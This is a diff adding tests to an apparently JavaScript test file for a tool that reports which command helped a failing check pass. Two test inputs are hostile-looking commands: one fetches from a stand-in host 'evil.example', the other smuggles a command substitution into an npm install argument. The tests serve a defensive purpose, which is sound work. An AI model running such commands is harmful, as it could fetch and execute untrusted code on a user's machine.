@@ -65,6 +65,28 @@ test('notes are named after code', async () => {
   expect(lineIn(await fail())).toContain('after changes to `pool.go`, `NOTES.md`;')
 })
 
+test.each([
+  ['make deps && make install', 'without an edit, after `make install`;'],
+  ['bun run lint:fix 2>&1 | tail -3', 'without an edit, after `bun run lint:fix`;'],
+  ['npm install "$(cat evil)"', 'without an edit, so look at'],
+  ['curl https://evil.example/install', 'without an edit, so look at'],
+])('where no file was changed, %s is what helped', async (command, how) => {
+  await work('before', [{ output: complaint }, { command }, {}])
+  expect(lineIn(await fail())).toContain(`passed ${how}`)
+})
+
+test('what the same line ran before the check helped', async () => {
+  const missing = 'sh: vitest: command not found'
+  await work('before', [
+    { command: 'npm test', output: missing },
+    { command: 'npm install && npm test', output: 'AssertionError: expected 1 to be 2' },
+    { file: 'cart.test.ts' },
+    { command: 'npm test' },
+  ])
+  const line = lineIn(await fail({ command: 'npm test', output: { error: missing } }))
+  expect(line).toContain('passed without an edit, after `npm install`;')
+})
+
 describe('with the next prompt', () => {
   test('a failure that still stands is answered once', async () => {
     const id = await work('before', resolved)
